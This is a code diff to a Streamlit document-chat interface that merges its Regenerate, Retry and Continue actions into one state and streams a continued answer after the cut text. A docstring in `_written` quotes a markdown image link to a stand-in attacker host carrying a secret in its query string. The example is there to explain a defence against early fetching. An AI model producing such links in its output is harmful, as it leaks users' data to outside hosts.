@@ -33,8 +33,9 @@ UNSENT = f"{KEY}_unsent"
 # The earlier question being edited ({"id", "text"}), and the edit to send on the next run.
 EDITING = f"{KEY}_editing"
 EDITED = f"{KEY}_edited"
-# The last answer whose Regenerate was clicked: the next run streams its new version in its place.
-REGENERATING = f"{KEY}_regenerating"
+# The last message answered again ({"id", "how": "retry" | "continue"}): Regenerate, Retry or
+# Continue was clicked; the next run streams the answer where that one was drawn.
+AGAIN = f"{KEY}_again"
 SETTLE_WAIT_S = 5.0
 # st.feedback's thumbs: 0 is down, 1 is up.
 THUMBS = {Rating.DOWN: 0, Rating.UP: 1}
@@ -73,9 +74,11 @@ def render(conversation_id: str | None) -> None:
     if resend is not None and conversation_id:
         # The edit starts a branch where the question was asked: what followed it gives way.
         history = [m for m in history if m.seq < resend["seq"]]
-    regenerating = bool(conversation_id and history and history[-1].id == st.session_state.pop(REGENERATING, None))
-    if regenerating:
-        history = history[:-1]  # the new version is streamed where this one was, not below it
+    again = st.session_state.pop(AGAIN, None)
+    if not (conversation_id and history and again and again["id"] == history[-1].id):
+        again = None  # a click on a page that had not seen the conversation move on since
+    elif history[-1].role is Role.ASSISTANT:
+        history = history[:-1]  # its new version, or the rest of it, is streamed in its place
     answers = [m for m in history if m.role is Role.ASSISTANT]
     sources.open_linked(history)
     if recent and recent.shown > drawn:
@@ -92,12 +95,12 @@ def render(conversation_id: str | None) -> None:
     if resend is not None and conversation_id:
         with new_turn:
             _resend(conversation_id, resend)
-    if regenerating:
+    if again:
         with new_turn:
-            _stream(lambda progress: services().chat.retry(conversation_id, progress=progress))
+            _answer_again(conversation_id, again["how"])
     _server_notice()
     if conversation_id and history:
-        _last_message_actions(conversation_id, history[-1], new_turn)
+        _last_message_actions(history[-1])
     edited = _unsent(conversation_id, history)
     text = st.chat_input("Ask about your documents", key=f"{KEY}_input")
     for question in (edited, text):
@@ -106,19 +109,27 @@ def render(conversation_id: str | None) -> None:
                 _ask(conversation_id, question)
 
 
-def _last_message_actions(conversation_id: str, last: Message, new_turn) -> None:
-    """Retry or Continue, below the history; the answer they start is streamed in `new_turn`.
+def _last_message_actions(last: Message) -> None:
+    """Retry or Continue, below the history. Their keys name the message, and the run a click
+    starts acts only if that message is still the last (see `render`): a click in a tab that has
+    not seen a question asked since in another tab does not answer that other question."""
+    if needs_retry(last):
+        st.button("Retry the answer", key=f"{KEY}_retry_{last.id}", icon=":material/refresh:",
+                  on_click=_start_again, args=(last, "retry"))
+    if may_continue(last):
+        st.button("Continue the answer", key=f"{KEY}_continue_{last.id}", icon=":material/arrow_forward:",
+                  on_click=_start_again, args=(last, "continue"))
 
-    Their keys name the message: a click in a tab that has not seen a question asked since in
-    another tab finds no button in the run it starts (that run reads the conversation anew),
-    instead of answering that other question."""
-    if needs_retry(last) and st.button("Retry the answer", key=f"{KEY}_retry_{last.id}", icon=":material/refresh:"):
-        with new_turn:
-            _stream(lambda progress: services().chat.retry(conversation_id, progress=progress))
-    if may_continue(last) and st.button("Continue the answer", key=f"{KEY}_continue_{last.id}",
-                                        icon=":material/arrow_forward:"):
-        with new_turn:
-            _stream(lambda progress: services().chat.continue_answer(conversation_id, progress=progress))
+
+def _start_again(last: Message, how: str) -> None:
+    st.session_state[AGAIN] = {"id": last.id, "how": how}
+
+
+def _answer_again(conversation_id: str, how: str) -> None:
+    if how == "continue":
+        _stream(lambda progress: services().chat.continue_answer(conversation_id, progress=progress))
+    else:
+        _stream(lambda progress: services().chat.retry(conversation_id, progress=progress))
 
 
 def _earlier(conversation_id: str, drawn: int, shown: int) -> None:
@@ -242,7 +253,7 @@ def _answer_actions(answer: Message, versions: list[Message], *, regenerate: boo
         if regenerate:
             st.button("Regenerate", key=f"{KEY}_regenerate_{answer.id}", icon=":material/refresh:", type="tertiary",
                       help="Answer again; this answer is kept as an earlier version",
-                      on_click=_start_regenerating, args=(answer,))
+                      on_click=_start_again, args=(answer, "retry"))
 
 
 def _question_actions(question: Message, versions: list[Message]) -> None:
@@ -252,10 +263,6 @@ def _question_actions(question: Message, versions: list[Message]) -> None:
         st.button("Edit", key=f"{KEY}_edit_{question.id}", icon=":material/edit:", type="tertiary",
                   help="Edit this question and ask it again; this version and what followed it are kept",
                   on_click=_start_editing, args=(question,))
-
-
-def _start_regenerating(answer: Message) -> None:
-    st.session_state[REGENERATING] = answer.id
 
 
 def _start_editing(question: Message) -> None:
@@ -332,7 +339,8 @@ def _stream(start_turn) -> None:
         st.session_state[STREAMING] = turn
         stage.caption(":material/hourglass_top: Waiting for the model…")
         try:
-            _written(_clearing(turn, stage), st.empty())
+            # A continued answer is drawn whole: the cut one gave way to it (see `render`).
+            _written(_clearing(turn, stage), st.empty(), before=turn.prefix)
         except DocchatError:
             pass  # stored with the message; shown by the rerun below
         except StopException:
@@ -355,12 +363,14 @@ def _as_typed(question: str) -> str:
     return _LINE_BREAK.sub("  \n", inert(question))
 
 
-def _written(deltas, shown) -> str:
+def _written(deltas, shown, *, before: str = "") -> str:
     """Draws the answer as it arrives, inert, at most every REDRAW_S; returns it whole.
 
     Not st.write_stream: it draws with Streamlit's "unterminated" Markdown, which closes what
     is left open, so `![x](https://evil.example/?q=SECRET` would be fetched before its `)`."""
-    text, drawn_at = "", 0.0
+    text, drawn_at = before, 0.0
+    if before:
+        shown.markdown(inert(before))  # the cut answer stays in view while the model starts again
     for delta in deltas:
         text += delta
         if time.monotonic() - drawn_at >= REDRAW_S:
